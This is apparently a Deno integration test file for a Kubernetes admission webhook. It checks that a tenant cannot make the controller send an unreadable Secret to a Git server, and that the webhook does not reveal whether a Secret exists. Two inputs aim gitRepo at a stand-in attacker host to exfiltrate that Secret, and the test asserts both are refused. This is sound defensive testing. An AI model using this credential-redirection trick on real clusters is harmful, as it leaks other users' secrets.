// deno-lint-ignore-file no-explicit-any
/**
 * The admission webhook behind a real kube-apiserver, for tenants: a user who
 * may edit clusters but not read a Secret cannot make NICO send that Secret
 * anywhere (security finding 1), and the answer never tells whether a
 * credentialsRef Secret exists (finding 5).
 */
import assert from "node:assert/strict";
import { SECRETS } from "../../lib/kube/resources.ts";
import { base64 } from "../../webhooks/admission.ts";
import { eventually } from "../../testing/helpers.ts";
import { apply, clusterJson, type Fixture, getCluster, machines, setup } from "../webhook_api_kit.ts";

const USER = "tenant-alice";

/**
 * A namespace where tenant-alice may edit clusters and read Secret own-token but not Secret deploy-token (both
 * exist); answers it, her kubeconfig, and a way to apply as her.
 */
async function tenantNamespace(f: Fixture) {
  const ns = await f.cp.namespace("tenant");
  await machines(f, ns, ["cp-1", "cp-2"]);
  const user = USER;
  const rbac = [
    {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "Role",
      metadata: { name: "cluster-editor", namespace: ns },
      rules: [
        { apiGroups: ["nico.homystack.com"], resources: ["kubernetesclusters"], verbs: ["*"] },
        { apiGroups: [""], resources: ["secrets"], resourceNames: ["own-token"], verbs: ["get"] },
      ],
    },
    {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "RoleBinding",
      metadata: { name: "cluster-editor", namespace: ns },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "cluster-editor" },
      subjects: [{ apiGroup: "rbac.authorization.k8s.io", kind: "User", name: user }],
    },
  ];
  for (const obj of rbac) {
    const r = await apply(f.cp, JSON.stringify(obj));
    assert.equal(r.code, 0, r.stderr);
  }
  for (const name of ["deploy-token", "own-token"]) {
    await f.client.create(SECRETS, {
      metadata: { name, namespace: ns },
      data: { token: base64(`${name}-value`) },
    } as any);
  }
  const kubeconfig = await f.cp.userKubeconfig(user, ["tenants"]);
  const asTenant = (json: string) => f.cp.kubectl(["apply", "-f", "-"], { stdin: json, kubeconfig });
  return { ns, kubeconfig, asTenant };
}

const spec = (credentials: string, gitRepo = "https://git.example.test/tenant.git", machine = "cp-1") => ({
  gitRepo,
  credentialsRef: { name: credentials },
  controlPlane: { machines: [machine] },
});

type Tenant = Awaited<ReturnType<typeof tenantNamespace>>;

/** Her cluster may not name the Secret she cannot read (the refusal says why and what to do); her own, it may. */
async function cannotStealTheSecret(f: Fixture, { ns, kubeconfig, asTenant }: Tenant): Promise<void> {
  const user = USER;
  // The user really cannot read the Secret: the API server says so itself.
  const direct = await f.cp.kubectl(["get", "secret", "deploy-token", "-n", ns], { kubeconfig });
  assert.notEqual(direct.code, 0);
  assert.match(direct.stderr, /forbidden/);

  const stolen = await asTenant(clusterJson(ns, "steal", spec("deploy-token", "https://attacker.example/x.git")));
  assert.notEqual(stolen.code, 0, "the exfiltration attempt was admitted");
  assert.ok(
    stolen.stderr.includes(
      `spec.credentialsRef.name: user ${user} may not get Secret deploy-token in namespace ${ns}, so it cannot make NICO send that Secret to a Git server; ask for get access to that Secret, or have someone who has it set spec.credentialsRef`,
    ),
    stolen.stderr,
  );
  assert.equal(await getCluster(f, ns, "steal"), undefined);

  const own = await asTenant(clusterJson(ns, "mine", spec("own-token")));
  assert.equal(own.code, 0, own.stderr);
}

/**
 * A cluster an admin set up with a Secret the tenant cannot read: the tenant may edit other fields, but not send
 * that Secret elsewhere by changing gitRepo.
 */
async function cannotMoveTheAdminsCluster(f: Fixture, { ns, kubeconfig }: Tenant): Promise<void> {
  const admin = await apply(f.cp, clusterJson(ns, "shared", spec("deploy-token", undefined, "cp-2")));
  assert.equal(admin.code, 0, admin.stderr);
  await eventually("the informer to see cluster shared", () => f.informers.clusters.get(ns, "shared"));
  const moved = await f.cp.kubectl(
    [
      "patch",
      "kubernetesclusters",
      "shared",
      "-n",
      ns,
      "--type=merge",
      "-p",
      '{"spec":{"gitRepo":"https://attacker.example/y.git"}}',
    ],
    { kubeconfig },
  );
  assert.notEqual(moved.code, 0, "a new gitRepo for someone else's Secret was admitted");
  assert.match(moved.stderr, /spec\.credentialsRef\.name: user tenant-alice may not get Secret deploy-token/);
  const paused = await f.cp.kubectl(
    ["patch", "kubernetesclusters", "shared", "-n", ns, "--type=merge", "-p", '{"spec":{"paused":true}}'],
    { kubeconfig },
  );
  assert.equal(paused.code, 0, paused.stderr);
  assert.equal((await getCluster(f, ns, "shared")).spec.gitRepo, "https://git.example.test/tenant.git");
}

Deno.test("finding 1: a tenant who may edit clusters but not read Secrets cannot point credentialsRef at one", async () => {
  const f = await setup();
  const tenant = await tenantNamespace(f);
  await cannotStealTheSecret(f, tenant);
  await cannotMoveTheAdminsCluster(f, tenant);
});

Deno.test("finding 5: the webhook answers the same whether or not a credentialsRef Secret exists", async () => {
  const f = await setup();
  const ns = await f.cp.namespace("probe-secret");
  await machines(f, ns, ["cp-1"]);
  await f.client.create(SECRETS, { metadata: { name: "exists", namespace: ns }, data: { token: "eA==" } } as any);
  const answers: string[] = [];
  for (const name of ["exists", "does-not-exist"]) {
    const r = await apply(
      f.cp,
      clusterJson(ns, "c", { credentialsRef: { name }, controlPlane: { machines: ["cp-1"] } }),
      [
        "--dry-run=server",
      ],
    );
    assert.equal(r.code, 0, r.stderr);
    answers.push(r.stderr.replaceAll(name, "<name>"));
  }
  assert.equal(answers[0], answers[1], "the answer depends on whether the Secret exists");
});
